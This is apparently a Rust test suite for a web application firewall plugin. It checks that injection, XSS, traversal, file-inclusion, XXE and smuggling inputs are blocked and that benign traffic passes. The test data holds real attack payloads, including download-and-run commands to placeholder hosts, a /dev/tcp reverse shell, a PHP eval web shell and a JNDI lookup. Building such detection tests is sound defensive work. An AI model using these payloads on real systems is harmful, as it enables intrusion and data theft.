//! Unit tests of the plugin as a whole: each class in each place, modes, exclusions, findings.

use super::*;
use serde_json::json;

fn waf(config: serde_json::Value) -> Arc<dyn Plugin> {
    Factory.build(&config).unwrap()
}

struct Req<'a> {
    path: &'a str,
    query: Option<&'a str>,
    headers: Vec<(&'a str, &'a str)>,
    body: Option<(&'a str, &'a [u8])>,
}

impl<'a> Req<'a> {
    fn get(path: &'a str, query: &'a str) -> Self {
        Self {
            path,
            query: (!query.is_empty()).then_some(query),
            headers: Vec::new(),
            body: None,
        }
    }
    fn post(content_type: &'a str, body: &'a [u8]) -> Self {
        Self {
            path: "/api/x",
            query: None,
            headers: Vec::new(),
            body: Some((content_type, body)),
        }
    }
    fn header(mut self, k: &'a str, v: &'a str) -> Self {
        self.headers.push((k, v));
        self
    }
}

/// Runs both phases; returns the reply (if any) and the context.
fn run(p: &Arc<dyn Plugin>, r: Req<'_>) -> (Option<Reply>, RequestCtx) {
    let mut headers = http::HeaderMap::new();
    for (k, v) in &r.headers {
        headers.append(
            http::HeaderName::from_bytes(k.as_bytes()).unwrap(),
            v.parse().unwrap(),
        );
    }
    if let Some((ct, b)) = r.body {
        headers.insert(http::header::CONTENT_TYPE, ct.parse().unwrap());
        headers.insert(http::header::CONTENT_LENGTH, b.len().into());
    }
    let view = RequestView {
        method: &http::Method::POST,
        path: r.path,
        query: r.query,
        headers: &headers,
        client_ip: [127, 0, 0, 1].into(),
        tls: false,
    };
    let mut ctx = RequestCtx::default();
    if let Flow::Respond(reply) = p.request(&view, &mut ctx) {
        return (Some(reply), ctx);
    }
    let body = Bytes::copy_from_slice(r.body.map(|(_, b)| b).unwrap_or_default());
    match p.request_body_buffered(&mut ctx, &body) {
        Flow::Respond(reply) => (Some(reply), ctx),
        Flow::Continue => (None, ctx),
    }
}

fn blocked(p: &Arc<dyn Plugin>, r: Req<'_>) -> Option<(String, String)> {
    let (reply, ctx) = run(p, r);
    let reply = reply?;
    assert_eq!(reply.status, StatusCode::FORBIDDEN);
    assert_eq!(reply.code, "waf_blocked");
    let f = ctx.findings.first().expect("a finding");
    assert_eq!(f.plugin, "waf");
    assert_eq!(f.action, FindingAction::Blocked);
    Some((f.class.to_owned(), f.location.clone()))
}

const ATTACKS: &[(&str, &str)] = &[
    ("sqli", "1' or '1'='1"),
    ("sqli", "1 UNION/**/SELECT password FROM users"),
    ("xss", "<script>alert(1)</script>"),
    ("xss", "\"><img src=x onerror=alert(1)>"),
    ("path_traversal", "../../../../etc/passwd"),
    ("path_traversal", "..%2f..%2f..%2fwindows%2fwin.ini"),
    ("command_injection", "127.0.0.1; cat /etc/passwd"),
    ("command_injection", "x|whoami"),
    ("rfi", "http://203.0.113.9/shell.txt"),
    ("rfi", "php://filter/convert.base64-encode/resource=index"),
    ("protocol", "en%0d%0aSet-Cookie:%20sid=1"),
];

fn enc(s: &str) -> String {
    let mut out = String::new();
    for b in s.bytes() {
        if b.is_ascii_alphanumeric() {
            out.push(b as char);
        } else {
            out.push_str(&format!("%{b:02X}"));
        }
    }
    out
}

#[test]
fn every_class_is_blocked_in_query_form_json_and_header() {
    let p = waf(json!({}));
    for (class, payload) in ATTACKS {
        let decoded = decode::normalize(payload).into_owned();
        let q = format!("q={}", enc(payload));
        let (c, loc) =
            blocked(&p, Req::get("/api/x", &q)).unwrap_or_else(|| panic!("query {payload}"));
        assert_eq!((c.as_str(), loc.as_str()), (*class, "query:q"), "{payload}");

        let form = q.clone();
        let (c, loc) = blocked(
            &p,
            Req::post("application/x-www-form-urlencoded", form.as_bytes()),
        )
        .unwrap_or_else(|| panic!("form {payload}"));
        assert_eq!((c.as_str(), loc.as_str()), (*class, "form:q"), "{payload}");

        let body = json!({"user": {"name": payload}}).to_string();
        let (c, loc) = blocked(&p, Req::post("application/json", body.as_bytes()))
            .unwrap_or_else(|| panic!("json {payload}"));
        assert_eq!(
            (c.as_str(), loc.as_str()),
            (*class, "body:$.user.name"),
            "{payload}"
        );

        let cookie = format!("sid={}", enc(payload));
        let (c, loc) = blocked(&p, Req::get("/api/x", "").header("cookie", &cookie))
            .unwrap_or_else(|| panic!("cookie {payload}"));
        assert_eq!(
            (c.as_str(), loc.as_str()),
            (*class, "cookie:sid"),
            "{payload}"
        );

        if !decoded.contains(['\r', '\n']) && !matches!(*class, "rfi") {
            let (c, loc) = blocked(
                &p,
                Req::get("/api/x", "").header("x-forwarded-host", &decoded),
            )
            .unwrap_or_else(|| panic!("header {payload}"));
            assert_eq!(
                (c.as_str(), loc.as_str()),
                (*class, "header:x-forwarded-host"),
                "{payload}"
            );
        }
    }
}

#[test]
fn path_traversal_in_the_path() {
    let p = waf(json!({}));
    let (c, loc) = blocked(&p, Req::get("/static/..%252f..%252fetc/passwd", "")).unwrap();
    assert_eq!((c.as_str(), loc.as_str()), ("path_traversal", "path"));
    assert!(blocked(&p, Req::get("/api/v1/users/20929/orders", "")).is_none());
}

#[test]
fn json_keys_and_arrays_and_multipart() {
    let p = waf(json!({}));
    let body = br#"{"items":[{"sku":"A"},{"sku":"1' OR 1=1--"}]}"#;
    let (_, loc) = blocked(&p, Req::post("application/json", body)).unwrap();
    assert_eq!(loc, "body:$.items[1].sku");
    let body = br#"{"<script>alert(1)</script>": 1}"#;
    let (c, _) = blocked(&p, Req::post("application/json", body)).unwrap();
    assert_eq!(c, "xss");
    let mp = b"--b1\r\nContent-Disposition: form-data; name=\"t\"\r\n\r\n<svg onload=alert(1)>\r\n--b1--\r\n";
    let (c, loc) = blocked(&p, Req::post("multipart/form-data; boundary=b1", mp)).unwrap();
    assert_eq!((c.as_str(), loc.as_str()), ("xss", "form:t"));
    let mp = b"--b1\r\nContent-Disposition: form-data; name=\"f\"; filename=\"../../../etc/passwd\"\r\nContent-Type: image/png\r\n\r\n\x89PNG<script>\r\n--b1--\r\n";
    let (c, _) = blocked(&p, Req::post("multipart/form-data; boundary=b1", mp)).unwrap();
    assert_eq!(c, "path_traversal");
    let (c, loc) = blocked(&p, Req::post("text/plain", b"'; DROP TABLE users; --")).unwrap();
    assert_eq!((c.as_str(), loc.as_str()), ("sqli", "body"));
    // Binary types are not read.
    assert!(blocked(&p, Req::post("image/png", b"<script>alert(1)</script>")).is_none());
}

#[test]
fn every_duplicate_key_and_escaped_key_of_a_json_body_is_inspected() {
    let p = waf(json!({}));
    // A backend that takes the first of two equal keys gets the attack; a parser into a map
    // keeps only the last, so both must be judged.
    let body = br#"{"q":"1' OR 1=1--","q":"ok"}"#;
    let (c, loc) = blocked(&p, Req::post("application/json", body)).unwrap();
    assert_eq!((c.as_str(), loc.as_str()), ("sqli", "body:$.q"));
    // Escapes in a key are decoded, and the path names the key.
    let body = br#"{"name":{"x":["<script>alert(1)</script>"]}}"#;
    let (c, loc) = blocked(&p, Req::post("application/json", body)).unwrap();
    assert_eq!((c.as_str(), loc.as_str()), ("xss", "body:$.name.x[0]"));
    // Not one JSON document (trailing bytes): judged as one text, once.
    let body = br#"{"a":"x"} <script>alert(1)</script>"#;
    let (c, loc) = blocked(&p, Req::post("application/json", body)).unwrap();
    assert_eq!((c.as_str(), loc.as_str()), ("xss", "body"));
    assert!(blocked(
        &p,
        Req::post("application/json", br#"{"a":"ok","b":[1,2.5,null,true]}"#)
    )
    .is_none());
}

#[test]
fn benign_city_app_traffic_passes() {
    let p = waf(json!({}));
    let jwt =
        "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJzdWIiOiJ1MSIsImNobiI6IndlY2hhdCJ9.3q2-7w_x9A";
    let bodies = [
        json!({"name": "黄丽", "idCard": "320106197810164745", "mobile": "15007851086",
               "address": "江苏省南京市鼓楼区中山北路30号(近鼓楼地铁站)", "remark": "50% off"}),
        json!({"content": "<p><strong>关于开展2024年度个税汇算的通知</strong></p><p style=\"text-align:center\"><img src=\"https://cdn.example.gov.cn/a.png\" width=\"300\"></p><p><a href=\"https://www.example.gov.cn/\">详情</a></p>"}),
        json!({"token": jwt, "note": "O'Brien", "msg": "please select a time slot, or drop me a line"}),
        json!({"appid": "wx1c218e7c60c31932", "nonce": "pPB2fd2MRj6UKAtM", "sign": "F7452E3DDC00BDA24B20032627B76272"}),
    ];
    for b in bodies {
        let s = b.to_string();
        assert!(
            blocked(&p, Req::post("application/json", s.as_bytes())).is_none(),
            "{s}"
        );
    }
    let q = "keyword=C%2B%2B%20%E5%9F%B9%E8%AE%AD%E8%A1%A5%E8%B4%B4&from=2024-01-01T00:00:00%2B08:00&sort=-created_at&status=paid,shipped";
    assert!(blocked(&p, Req::get("/api/v1/policy/search", q)).is_none());
    let ua = "Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Mobile/15E148 MicroMessenger/8.0.47(0x18002f2c) NetType/WIFI Language/zh_CN";
    let cookie = format!("session={jwt}; lang=zh-CN");
    let r = Req::get("/api/x", "page=1")
        .header("user-agent", ua)
        .header(
            "referer",
            "https://servicewechat.com/wx1c218e7c60c31932/12/page-frame.html",
        )
        .header("cookie", &cookie);
    assert!(blocked(&p, r).is_none());
}

#[test]
fn monitor_mode_passes_and_records() {
    let p = waf(json!({"mode": "monitor"}));
    let (reply, ctx) = run(
        &p,
        Req::get(
            "/api/x",
            "a=1%27%20or%20%271%27%3D%271&b=%3Cscript%3Ealert(1)%3C/script%3E",
        ),
    );
    assert!(reply.is_none());
    let classes: Vec<_> = ctx
        .findings
        .iter()
        .map(|f| (f.class, f.location.as_str(), f.action))
        .collect();
    assert_eq!(
        classes,
        [
            ("sqli", "query:a", FindingAction::Logged),
            ("xss", "query:b", FindingAction::Logged)
        ]
    );
}

#[test]
fn exclusions_quiet_one_field_only() {
    let p = waf(json!({"exclusions": [
        {"where": "body:$.article.html"},
        {"where": "query:filter", "rule": "sqli"},
    ]}));
    let ok = json!({"article": {"html": "<script>alert(1)</script>"}}).to_string();
    assert!(blocked(&p, Req::post("application/json", ok.as_bytes())).is_none());
    let bad =
        json!({"article": {"html": "<script>x</script>", "title": "<script>alert(1)</script>"}})
            .to_string();
    let (_, loc) = blocked(&p, Req::post("application/json", bad.as_bytes())).unwrap();
    assert_eq!(loc, "body:$.article.title");
    assert!(blocked(&p, Req::get("/x", "filter=1%27%20or%20%271%27%3D%271")).is_none());
    // Only SQLi is quieted there.
    assert!(blocked(
        &p,
        Req::get("/x", "filter=%3Cscript%3Ealert(1)%3C/script%3E")
    )
    .is_some());
}

#[test]
fn excerpts_mask_long_digit_runs() {
    assert_eq!(
        redact("id=320106197810164745' or 1=1", 48),
        "id=******************' or 1=1"
    );
    assert_eq!(redact("page 12345 ok", 48), "page 12345 ok");
    assert_eq!(redact("abc 1234567", 8), "abc ****");
    assert_eq!(redact("a\r\nb", 48), "a  b");
    let p = waf(json!({}));
    let (_, ctx) = run(&p, Req::get("/x", "m=13800138000%27%20or%20%271%27%3D%271"));
    let e = ctx.findings[0].excerpt.as_deref().unwrap();
    assert!(!e.contains("13800138000"), "{e}");
}

#[test]
fn body_need_follows_the_config() {
    let p = waf(json!({"body": {"limit": 1024, "over_limit": "reject"}}));
    assert_eq!(
        p.request_body_need(),
        BodyNeed::Buffer {
            limit: 1024,
            over_limit: crate::contract::OverLimit::Reject
        }
    );
    let p = waf(json!({}));
    assert_eq!(
        p.request_body_need(),
        BodyNeed::Buffer {
            limit: 65536,
            over_limit: crate::contract::OverLimit::PassUninspected
        }
    );
}

#[test]
fn paranoia_adds_rules() {
    let p1 = waf(json!({"paranoia": 1}));
    let p2 = waf(json!({"paranoia": 2}));
    let q = "q=a%20%26%20whoami";
    assert!(blocked(&p1, Req::get("/x", q)).is_none());
    assert!(blocked(&p2, Req::get("/x", q)).is_some());
}

#[test]
fn registered_as_waf() {
    assert!(crate::builtin().contains("waf"));
}

/// Payloads of the shapes public rule sets test for (OWASP CRS regression tests, libinjection's
/// data), none of them from the development corpus.
#[test]
fn public_rule_set_shapes_are_detected() {
    let cases: &[(&str, &str)] = &[
        ("sqli", "1 AND (SELECT 1 FROM (SELECT SLEEP(5))a)"),
        ("sqli", "1' AND extractvalue(1,concat(0x7e,version()))-- -"),
        ("sqli", "1;WAITFOR DELAY '0:0:5'--"),
        (
            "sqli",
            "-1' UNION/*!50000SELECT*/1,2,group_concat(table_name) FROM information_schema.tables#",
        ),
        ("sqli", "admin'/**/OR/**/1=1#"),
        ("xss", "<details open ontoggle=alert(1)>"),
        ("xss", "<a href=\"jav&#x09;ascript:alert(1)\">x</a>"),
        (
            "xss",
            "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>",
        ),
        (
            "xss",
            "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
        ),
        ("xss", "%3Cscript%3Ealert(1)%3C%2Fscript%3E"),
        (
            "xss",
            "<iframe srcdoc=\"&lt;script&gt;alert(1)&lt;/script&gt;\">",
        ),
        ("path_traversal", "....//....//....//etc/passwd"),
        ("path_traversal", "..%c0%af..%c0%afetc%c0%afpasswd"),
        ("path_traversal", "/WEB-INF/web.xml"),
        ("path_traversal", "/proc/self/environ"),
        ("path_traversal", "..\\..\\..\\windows\\win.ini"),
        (
            "command_injection",
            "; wget http://203.0.113.5/x.sh -O /tmp/x; sh /tmp/x",
        ),
        ("command_injection", "$(curl -s http://x.example/a|sh)"),
        (
            "command_injection",
            "| powershell -nop -c IEX(New-Object Net.WebClient).DownloadString('http://x/a')",
        ),
        ("command_injection", "() { :;}; /bin/bash -c 'id'"),
        ("command_injection", "require('child_process').exec('id')"),
        ("command_injection", "${jndi:ldap://x.example/a}"),
        (
            "command_injection",
            "O:8:\"stdClass\":1:{s:1:\"a\";s:1:\"b\";}",
        ),
        ("command_injection", "<?php eval($_POST['x']); ?>"),
        ("command_injection", "{\"__proto__\":{\"admin\":true}}"),
        ("rfi", "expect://id"),
        ("rfi", "http://192.0.2.10/backdoor.txt?"),
        ("protocol", "foo%0d%0aLocation:%20http://evil.example"),
        ("sqli", "1 procedure analyse()"),
        ("sqli", "'||(SELECT version())||'"),
        (
            "sqli",
            "1' AND ASCII(SUBSTRING((SELECT database()),1,1))>64--",
        ),
        ("xss", "<details/open/ontoggle=confirm(1)>"),
        ("xss", "<a href=javas&#99;ript:alert(1)>x"),
        ("xss", "{{constructor.constructor('alert(1)')()}}"),
        (
            "command_injection",
            "; bash -i >& /dev/tcp/10.0.0.1/8080 0>&1",
        ),
        ("rfi", "gopher://127.0.0.1:6379/_INFO"),
        ("rfi", "http://169.254.169.254/latest/meta-data/"),
    ];
    let p = waf(json!({}));
    for (class, payload) in cases {
        let q = format!("q={}", enc(payload));
        let (c, _) =
            blocked(&p, Req::get("/api/x", &q)).unwrap_or_else(|| panic!("missed {payload}"));
        assert_eq!(c, *class, "{payload}");
    }
}

/// Arbitrary bytes (a deterministic xorshift stream) through every decoder and engine: no panic.
#[test]
fn hostile_bytes_never_panic() {
    let p = waf(json!({"mode": "monitor"}));
    let plain = Waf::from_config(&json!({})).unwrap();
    let mut x: u64 = 0x9E37_79B9_7F4A_7C15;
    let alphabet = b"%%%&#;xX0123456789aAcCeEfFuU./\\'\"<>()=-+*!`$|{}[]:\0\r\n \xc0\xc1\xe0\xf8\xfc\x80\xae\xef\xbf";
    for round in 0..120 {
        let len = (round * 13) % 400;
        let mut bytes = Vec::with_capacity(len);
        for _ in 0..len {
            x ^= x << 13;
            x ^= x >> 7;
            x ^= x << 17;
            bytes.push(alphabet[(x % alphabet.len() as u64) as usize]);
        }
        let text = String::from_utf8_lossy(&bytes).into_owned();
        let _ = decode::normalize(&text);
        let _ = decode::strip_sql_comments(&text);
        for ct in [
            "application/json",
            "application/x-www-form-urlencoded",
            "multipart/form-data; boundary=%",
            "text/plain",
        ] {
            let _ = run(&p, Req::post(ct, &bytes));
        }
        let q: String = text
            .chars()
            .filter(|c| !c.is_control() && *c != '#')
            .collect();
        let _ = plain.inspect_body(&BodyKind::Text, q.as_bytes());
    }
}

#[test]
fn xml_bodies_are_read_as_documents() {
    let p = waf(json!({}));
    let notify = "<xml><appid><![CDATA[wx2421b1c4370ec43b]]></appid><attach><![CDATA[支付测试]]></attach>\
<mch_id><![CDATA[10000100]]></mch_id><nonce_str><![CDATA[5d2b6c2a8db53831f7eda20af46e531c]]></nonce_str>\
<openid><![CDATA[oUpF8uMEb4qRXf22hE3X68TekukE]]></openid><result_code><![CDATA[SUCCESS]]></result_code>\
<sign><![CDATA[B552ED6B279343CB493C5DD0D78AB241]]></sign><total_fee>1</total_fee></xml>";
    assert!(blocked(&p, Req::post("text/xml", notify.as_bytes())).is_none());
    let xxe = "<?xml version=\"1.0\"?><!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hostname\">]><r>&x;</r>";
    let (c, _) = blocked(&p, Req::post("application/xml", xxe.as_bytes())).unwrap();
    assert_eq!(c, "rfi");
    let cdata = "<xml><remark><![CDATA[<script>alert(1)</script>]]></remark></xml>";
    let (c, loc) = blocked(&p, Req::post("text/xml", cdata.as_bytes())).unwrap();
    assert_eq!((c.as_str(), loc.as_str()), ("xss", "body"));
}

#[test]
fn json_sent_as_text_is_walked_as_json() {
    let p = waf(json!({}));
    let body = json!({"name": "O'Brien", "q": "1' or '1'='1"}).to_string();
    let (_, loc) = blocked(&p, Req::post("text/plain", body.as_bytes())).unwrap();
    assert_eq!(loc, "body:$.q");
    let ok = json!({"name": "O'Brien", "note": "select a time slot"}).to_string();
    assert!(blocked(&p, Req::post("text/plain;charset=utf-8", ok.as_bytes())).is_none());
}

#[test]
fn smuggling_framing_is_protocol_abuse() {
    let p = waf(json!({}));
    let r = Req::get("/x", "")
        .header("transfer-encoding", "chunked")
        .header("content-length", "5");
    assert_eq!(
        blocked(&p, r).unwrap(),
        ("protocol".into(), "header:transfer-encoding".into())
    );
    let r = Req::get("/x", "").header("transfer-encoding", "gzip, chunked");
    assert_eq!(blocked(&p, r).unwrap().0, "protocol");
    let r = Req::get("/x", "")
        .header("content-length", "5")
        .header("content-length", "6");
    assert_eq!(
        blocked(&p, r).unwrap(),
        ("protocol".into(), "header:content-length".into())
    );
    assert!(blocked(
        &p,
        Req::get("/x", "").header("transfer-encoding", "chunked")
    )
    .is_none());
    assert!(blocked(&p, Req::get("/cgi-bin/a.cgi;id", "")).is_some());
}

#[test]
fn each_paranoia_level_adds_rules() {
    // (value, lowest level that blocks it)
    let cases = [
        ("a%20%26%20whoami", 2),
        ("http%3A%2F%2Fx.example%2Fa%3F", 3),
        ("%3Cspan%20class%3Dx%3Ehi%3C%2Fspan%3E", 3),
        ("abc%3B%20foo", 3),
        ("a../b", 4),
        ("x%01y", 4),
        ("it%27s%20%27ok%27%2C%20fine", 4),
    ];
    let levels: Vec<_> = (1..=4).map(|l| waf(json!({"paranoia": l}))).collect();
    for (q, from) in cases {
        for (i, p) in levels.iter().enumerate() {
            let level = i + 1;
            let hit = blocked(p, Req::get("/x", &format!("v={q}"))).is_some();
            assert_eq!(hit, level >= from, "{q} at paranoia {level}");
        }
    }
}

#[test]
fn block_mode_reports_one_detection_and_monitor_at_most_sixteen() {
    let mut headers = http::HeaderMap::new();
    headers.insert(http::header::TRANSFER_ENCODING, "chunked".parse().unwrap());
    headers.insert(http::header::CONTENT_LENGTH, "5".parse().unwrap());
    let query = (0..40)
        .map(|i| format!("a{i}=%3Cscript%3Ex%3C%2Fscript%3E"))
        .collect::<Vec<_>>()
        .join("&");
    let view = RequestView {
        method: &http::Method::GET,
        path: "/a/..%252f..%252fetc/passwd",
        query: Some(&query),
        headers: &headers,
        client_ip: [127, 0, 0, 1].into(),
        tls: false,
    };
    let block = Waf::from_config(&json!({})).unwrap();
    assert_eq!(block.inspect_head(&view).len(), 1);
    let monitor = Waf::from_config(&json!({"mode": "monitor"})).unwrap();
    assert_eq!(monitor.inspect_head(&view).len(), Finding::MAX_PER_REQUEST);
}
